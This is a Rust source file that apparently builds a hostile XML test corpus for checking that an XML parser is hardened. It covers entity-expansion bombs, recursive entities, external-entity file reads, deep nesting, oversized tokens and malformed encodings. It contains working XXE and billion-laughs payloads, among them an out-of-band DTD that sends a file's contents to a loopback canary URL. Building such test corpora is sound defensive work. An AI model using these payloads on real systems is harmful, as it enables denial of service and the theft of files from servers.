//! The hostile XML corpus of `wary probe xml-parser`: one document per attack class of the
//! hardening issue (entity bombs, external entities, nesting, huge tokens, bad characters
//! and encodings, truncated and junk input), generated at run time, never committed.
//!
//! A case knows how to write its document given where the canaries are (a loopback HTTP
//! URL, files outside the entity root) and whether a conforming parser must reject it.
//! Judging what the parser did is [`crate::xml_parser`]'s job.

use std::fmt::Write as _;

/// What a case tests.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Class {
    /// Entity expansion that multiplies the input (billion laughs, quadratic blowup).
    Expansion,
    /// An entity that refers to itself.
    Recursion,
    /// Something outside the document: a file or a URL.
    External,
    /// Structure that costs memory or time per level or per item.
    Structure,
    /// Tokens far larger than any real document has.
    Size,
    /// Bytes or characters XML forbids, and encodings that cannot be trusted.
    Characters,
    /// Input that is not a document at all.
    Framing,
}

/// Where the canaries of a run are, for the documents to refer to.
#[derive(Clone, Debug)]
pub struct Canaries {
    /// `http://127.0.0.1:PORT` of the canary server (no trailing slash).
    pub http: String,
    /// Absolute path of this case's canary file, outside the entity root.
    pub file_abs: String,
    /// The same file relative to the document's folder (`../…`).
    pub file_rel: String,
}

/// One document of the corpus.
pub struct Case {
    /// Short unique name (also in the canary URL paths, to attribute requests).
    pub name: &'static str,
    /// The class of attack.
    pub class: Class,
    /// What the document does, in one sentence.
    pub attack: &'static str,
    /// A conforming parser must reject the document (it is not well-formed, or breaks a
    /// limit every safe parser has). When false, accepting it quickly and safely is fine.
    pub must_reject: bool,
    /// Writes the document.
    pub build: fn(&Canaries, &str) -> Vec<u8>,
}

/// Bytes of the big inputs (unterminated constructs, huge tokens): large enough that a
/// parser holding or re-scanning them shows it, small enough to write in a moment.
const BIG: usize = 16 << 20;

/// The corpus, in the order it runs.
pub const CORPUS: &[Case] = &[
    Case {
        name: "billion-laughs-text",
        class: Class::Expansion,
        attack: "ten levels of ten entity references each, used in text (3 GB from 1 KB)",
        must_reject: false,
        build: |_, _| format!("<!DOCTYPE r [{}]><r>&l9;</r>", laughs()).into_bytes(),
    },
    Case {
        name: "billion-laughs-attribute",
        class: Class::Expansion,
        attack: "the billion laughs entity used in an attribute value",
        must_reject: false,
        build: |_, _| format!("<!DOCTYPE r [{}]><r a='&l9;'/>", laughs()).into_bytes(),
    },
    Case {
        name: "billion-laughs-attribute-default",
        class: Class::Expansion,
        attack: "the billion laughs entity as the default value of a declared attribute",
        must_reject: false,
        build: |_, _| {
            format!("<!DOCTYPE r [{}<!ATTLIST r a CDATA '&l9;'>]><r/>", laughs()).into_bytes()
        },
    },
    Case {
        name: "default-attribute-amplification",
        class: Class::Expansion,
        attack: "a 100 KB attribute default applied to 200,000 empty elements (20 GB)",
        must_reject: false,
        build: |_, _| {
            format!(
                "<!DOCTYPE r [<!ATTLIST e a CDATA '{}'>]><r>{}</r>",
                "x".repeat(100_000),
                "<e/>".repeat(200_000)
            )
            .into_bytes()
        },
    },
    Case {
        name: "quadratic-blowup-text",
        class: Class::Expansion,
        attack: "one 64 KB entity referenced 100,000 times in text (6.5 GB from 364 KB)",
        must_reject: false,
        build: |_, _| quadratic(false),
    },
    Case {
        name: "quadratic-blowup-attribute",
        class: Class::Expansion,
        attack: "one 64 KB entity referenced 100,000 times in an attribute value",
        must_reject: false,
        build: |_, _| quadratic(true),
    },
    Case {
        name: "parameter-entity-bomb",
        class: Class::Expansion,
        attack: "nested parameter entities (written with &#37;) that declare entities 10^9 times",
        must_reject: false,
        build: |_, _| {
            let mut dtd = String::from("<!ENTITY % p0 '<!ENTITY x \"y\">'>");
            for i in 1..10 {
                let refs = format!("&#37;p{};", i - 1).repeat(10);
                let _ = write!(dtd, "<!ENTITY % p{i} '{refs}'>");
            }
            format!("<!DOCTYPE r [{dtd}%p9;]><r/>").into_bytes()
        },
    },
    Case {
        name: "recursive-entity",
        class: Class::Recursion,
        attack: "an entity whose replacement text refers to itself",
        must_reject: true,
        build: |_, _| b"<!DOCTYPE r [<!ENTITY a 'x&a;'>]><r>&a;</r>".to_vec(),
    },
    Case {
        name: "mutually-recursive-entities",
        class: Class::Recursion,
        attack: "two entities that refer to each other, used in an attribute value",
        must_reject: true,
        build: |_, _| b"<!DOCTYPE r [<!ENTITY a 'x&b;'><!ENTITY b 'y&a;'>]><r v='&a;'/>".to_vec(),
    },
    Case {
        name: "recursive-parameter-entity",
        class: Class::Recursion,
        attack: "a parameter entity whose replacement text refers to itself",
        must_reject: true,
        build: |_, _| b"<!DOCTYPE r [<!ENTITY % a '&#37;a;'> %a;]><r/>".to_vec(),
    },
    Case {
        name: "external-entity-absolute-file",
        class: Class::External,
        attack: "an external general entity naming a file outside the document's folder by absolute path",
        must_reject: false,
        build: |c, _| {
            format!("<!DOCTYPE r [<!ENTITY e SYSTEM '{}'>]><r>&e;</r>", c.file_abs).into_bytes()
        },
    },
    Case {
        name: "external-entity-relative-file",
        class: Class::External,
        attack: "an external general entity naming a file outside the document's folder by ../",
        must_reject: false,
        build: |c, _| {
            format!("<!DOCTYPE r [<!ENTITY e SYSTEM '{}'>]><r>&e;</r>", c.file_rel).into_bytes()
        },
    },
    Case {
        name: "external-entity-file-url",
        class: Class::External,
        attack: "an external general entity naming a file outside the document's folder by file: URL",
        must_reject: false,
        build: |c, _| {
            format!("<!DOCTYPE r [<!ENTITY e SYSTEM 'file://{}'>]><r>&e;</r>", c.file_abs)
                .into_bytes()
        },
    },
    Case {
        name: "external-entity-http",
        class: Class::External,
        attack: "an external general entity on a loopback HTTP server",
        must_reject: false,
        build: |c, name| {
            format!("<!DOCTYPE r [<!ENTITY e SYSTEM '{}/{name}.ent'>]><r>&e;</r>", c.http)
                .into_bytes()
        },
    },
    Case {
        name: "external-dtd-http",
        class: Class::External,
        attack: "an external DTD subset on a loopback HTTP server",
        must_reject: false,
        build: |c, name| {
            format!("<!DOCTYPE r SYSTEM '{}/{name}.dtd'><r>&leak;</r>", c.http).into_bytes()
        },
    },
    Case {
        name: "external-dtd-file",
        class: Class::External,
        attack: "an external DTD subset in a file outside the document's folder",
        must_reject: false,
        build: |c, _| format!("<!DOCTYPE r SYSTEM '{}'><r>&leak;</r>", c.file_rel).into_bytes(),
    },
    Case {
        name: "external-parameter-entity-http",
        class: Class::External,
        attack: "an external parameter entity on a loopback HTTP server, referenced in the internal subset",
        must_reject: false,
        build: |c, name| {
            format!(
                "<!DOCTYPE r [<!ENTITY % p SYSTEM '{}/{name}.dtd'>%p;]><r>&leak;</r>",
                c.http
            )
            .into_bytes()
        },
    },
    Case {
        name: "external-parameter-entity-file",
        class: Class::External,
        attack: "an external parameter entity in a file outside the document's folder",
        must_reject: false,
        build: |c, _| {
            format!("<!DOCTYPE r [<!ENTITY % p SYSTEM '{}'>%p;]><r>&leak;</r>", c.file_abs)
                .into_bytes()
        },
    },
    Case {
        name: "out-of-band-exfiltration",
        class: Class::External,
        attack: "the classic XXE out-of-band pattern: a file read into a parameter entity, sent to a URL",
        must_reject: false,
        build: |c, name| {
            format!(
                "<!DOCTYPE r [<!ENTITY % file SYSTEM '{}'><!ENTITY % dtd SYSTEM '{}/{name}-oob.dtd'>%dtd;]><r/>",
                c.file_abs, c.http
            )
            .into_bytes()
        },
    },
    Case {
        name: "deep-nesting",
        class: Class::Structure,
        attack: "elements nested 1,000,000 deep",
        must_reject: false,
        build: |_, _| {
            let mut d = "<a>".repeat(1_000_000);
            d.push_str(&"</a>".repeat(1_000_000));
            d.into_bytes()
        },
    },
    Case {
        name: "deep-nesting-through-entities",
        class: Class::Structure,
        attack: "elements nested 10,000 deep by an entity used at 10 levels of references",
        must_reject: false,
        build: |_, _| {
            let mut dtd = format!(
                "<!ENTITY e0 '{}{}'>",
                "<a>".repeat(1000),
                "</a>".repeat(1000)
            );
            for i in 1..10 {
                let _ = write!(dtd, "<!ENTITY e{i} '<a>&e{};</a>'>", i - 1);
            }
            format!(
                "<!DOCTYPE r [{dtd}]><r>{}&e9;{}</r>",
                "<b>".repeat(9000),
                "</b>".repeat(9000)
            )
            .into_bytes()
        },
    },
    Case {
        name: "deep-entity-references",
        class: Class::Structure,
        attack: "entity references nested 10,000 deep",
        must_reject: false,
        build: |_, _| {
            let mut dtd = String::from("<!ENTITY e0 'x'>");
            for i in 1..10_000 {
                let _ = write!(dtd, "<!ENTITY e{i} '&e{};'>", i - 1);
            }
            format!("<!DOCTYPE r [{dtd}]><r>&e9999;</r>").into_bytes()
        },
    },
    Case {
        name: "huge-attribute-count",
        class: Class::Structure,
        attack: "one start tag with 1,000,000 attributes",
        must_reject: false,
        build: |_, _| {
            let mut d = String::from("<r");
            for i in 0..1_000_000 {
                let _ = write!(d, " a{i}=''");
            }
            d.push_str("/>");
            d.into_bytes()
        },
    },
    Case {
        name: "duplicate-attribute-at-end-of-huge-tag",
        class: Class::Structure,
        attack: "4,000 attributes, then the first one again",
        must_reject: true,
        build: |_, _| {
            let mut d = String::from("<r");
            for i in 0..4000 {
                let _ = write!(d, " a{i}='v'");
            }
            d.push_str(" a0='again'/>");
            d.into_bytes()
        },
    },
    Case {
        name: "many-namespace-declarations",
        class: Class::Structure,
        attack: "one start tag declaring 200,000 namespace prefixes and using each",
        must_reject: false,
        build: |_, _| {
            let mut d = String::from("<r");
            for i in 0..200_000 {
                let _ = write!(d, " xmlns:p{i}='urn:x{i}' p{i}:a=''");
            }
            d.push_str("/>");
            d.into_bytes()
        },
    },
    Case {
        name: "huge-name",
        class: Class::Size,
        attack: "an element name of 16 MB",
        must_reject: false,
        build: |_, _| {
            let name = "n".repeat(BIG);
            format!("<{name}></{name}>").into_bytes()
        },
    },
    Case {
        name: "huge-attribute-value",
        class: Class::Size,
        attack: "an attribute value of 16 MB",
        must_reject: false,
        build: |_, _| format!("<r a='{}'/>", "v".repeat(BIG)).into_bytes(),
    },
    Case {
        name: "unterminated-comment",
        class: Class::Size,
        attack: "a 16 MB comment that never ends",
        must_reject: true,
        build: |_, _| format!("<r><!--{}", "-x".repeat(BIG / 2)).into_bytes(),
    },
    Case {
        name: "unterminated-cdata",
        class: Class::Size,
        attack: "a 16 MB CDATA section that never ends, full of ']]'",
        must_reject: true,
        build: |_, _| format!("<r><![CDATA[{}", "]]x".repeat(BIG / 3)).into_bytes(),
    },
    Case {
        name: "unterminated-start-tag",
        class: Class::Size,
        attack: "a start tag whose 16 MB attribute value never ends",
        must_reject: true,
        build: |_, _| format!("<r a='{}", "x".repeat(BIG)).into_bytes(),
    },
    Case {
        name: "unterminated-pi",
        class: Class::Size,
        attack: "a 16 MB processing instruction that never ends, full of '?'",
        must_reject: true,
        build: |_, _| format!("<r><?pi {}", "?x".repeat(BIG / 2)).into_bytes(),
    },
    Case {
        name: "unclosed-root",
        class: Class::Size,
        attack: "16 MB of text in a root element that is never closed",
        must_reject: true,
        build: |_, _| format!("<r>{}", "text ".repeat(BIG / 5)).into_bytes(),
    },
    Case {
        name: "invalid-utf8",
        class: Class::Characters,
        attack: "a byte that never occurs in UTF-8 (0xFF)",
        must_reject: true,
        build: |_, _| b"<r>\xFF</r>".to_vec(),
    },
    Case {
        name: "overlong-utf8",
        class: Class::Characters,
        attack: "an overlong UTF-8 encoding of '<' (0xC0 0xBC)",
        must_reject: true,
        build: |_, _| b"<r>\xC0\xBCx/></r>".to_vec(),
    },
    Case {
        name: "utf8-surrogate",
        class: Class::Characters,
        attack: "a UTF-16 surrogate encoded in UTF-8 (0xED 0xA0 0x80)",
        must_reject: true,
        build: |_, _| b"<r>\xED\xA0\x80</r>".to_vec(),
    },
    Case {
        name: "nul-byte",
        class: Class::Characters,
        attack: "a NUL byte in text",
        must_reject: true,
        build: |_, _| b"<r>a\0b</r>".to_vec(),
    },
    Case {
        name: "char-ref-surrogate",
        class: Class::Characters,
        attack: "a character reference to a surrogate (&#xD800;)",
        must_reject: true,
        build: |_, _| b"<r>&#xD800;</r>".to_vec(),
    },
    Case {
        name: "char-ref-non-char",
        class: Class::Characters,
        attack: "a character reference to a non-character (&#xFFFE;)",
        must_reject: true,
        build: |_, _| b"<r>&#xFFFE;</r>".to_vec(),
    },
    Case {
        name: "char-ref-nul",
        class: Class::Characters,
        attack: "a character reference to NUL in an attribute value (&#0;)",
        must_reject: true,
        build: |_, _| b"<r a='&#0;'/>".to_vec(),
    },
    Case {
        name: "unsupported-encoding",
        class: Class::Characters,
        attack: "an encoding declaration naming an encoding that does not exist",
        must_reject: true,
        build: |_, _| b"<?xml version='1.0' encoding='x-wary-no-such-encoding'?><r/>".to_vec(),
    },
    Case {
        name: "contradictory-encoding",
        class: Class::Characters,
        attack: "a UTF-8 byte-order mark with an ISO-8859-1 encoding declaration",
        must_reject: true,
        build: |_, _| b"\xEF\xBB\xBF<?xml version='1.0' encoding='ISO-8859-1'?><r>\xC3\xA9</r>".to_vec(),
    },
    Case {
        name: "junk-after-root",
        class: Class::Framing,
        attack: "text after the end of the root element",
        must_reject: true,
        build: |_, _| b"<r/>junk".to_vec(),
    },
    Case {
        name: "second-root",
        class: Class::Framing,
        attack: "a second root element",
        must_reject: true,
        build: |_, _| b"<r/><r/>".to_vec(),
    },
    Case {
        name: "empty-input",
        class: Class::Framing,
        attack: "an empty file",
        must_reject: true,
        build: |_, _| Vec::new(),
    },
];

/// The content the canary HTTP server and canary files serve for a path: a DTD that
/// declares `leak` (and, for the out-of-band pattern, sends the file on), or plain text.
/// Every form carries [`SECRET`] so that a parser that shows it is caught.
#[must_use]
pub fn canary_body(path: &str, http: &str) -> String {
    if path.ends_with("-oob.dtd") {
        format!(
            "<!ENTITY % all \"<!ENTITY send SYSTEM '{http}/exfiltrated?%file;'>\">%all;<!ENTITY leak '{SECRET}'>"
        )
    } else if path.ends_with(".dtd") {
        format!("<!ENTITY leak '{SECRET}'>")
    } else {
        SECRET.to_owned()
    }
}

/// The text every canary carries; finding it in a parser's output is a disclosure.
pub const SECRET: &str = "WARY-CANARY-4f1e9c-secret-file-content";

fn laughs() -> String {
    let mut dtd = String::from("<!ENTITY l0 'lollollollollollollollollollol'>");
    for i in 1..10 {
        let refs = format!("&l{};", i - 1).repeat(10);
        let _ = write!(dtd, "<!ENTITY l{i} '{refs}'>");
    }
    dtd
}

fn quadratic(in_attribute: bool) -> Vec<u8> {
    let refs = "&a;".repeat(100_000);
    let body = if in_attribute {
        format!("<r x='{refs}'/>")
    } else {
        format!("<r>{refs}</r>")
    };
    format!("<!DOCTYPE r [<!ENTITY a '{}'>]>{body}", "a".repeat(65_536)).into_bytes()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn canaries() -> Canaries {
        Canaries {
            http: "http://127.0.0.1:9".into(),
            file_abs: "/tmp/x/secret".into(),
            file_rel: "../secret".into(),
        }
    }

    #[test]
    fn names_are_unique_and_every_class_is_covered() {
        let mut names: Vec<_> = CORPUS.iter().map(|c| c.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), CORPUS.len());
        for class in [
            Class::Expansion,
            Class::Recursion,
            Class::External,
            Class::Structure,
            Class::Size,
            Class::Characters,
            Class::Framing,
        ] {
            assert!(CORPUS.iter().any(|c| c.class == class), "{class:?}");
        }
    }

    #[test]
    fn external_cases_point_at_the_canaries() {
        for case in CORPUS.iter().filter(|c| c.class == Class::External) {
            let doc = String::from_utf8((case.build)(&canaries(), case.name)).unwrap();
            assert!(
                doc.contains("127.0.0.1:9")
                    || doc.contains("/tmp/x/secret")
                    || doc.contains("../secret"),
                "{}: {doc}",
                case.name
            );
        }
    }
}
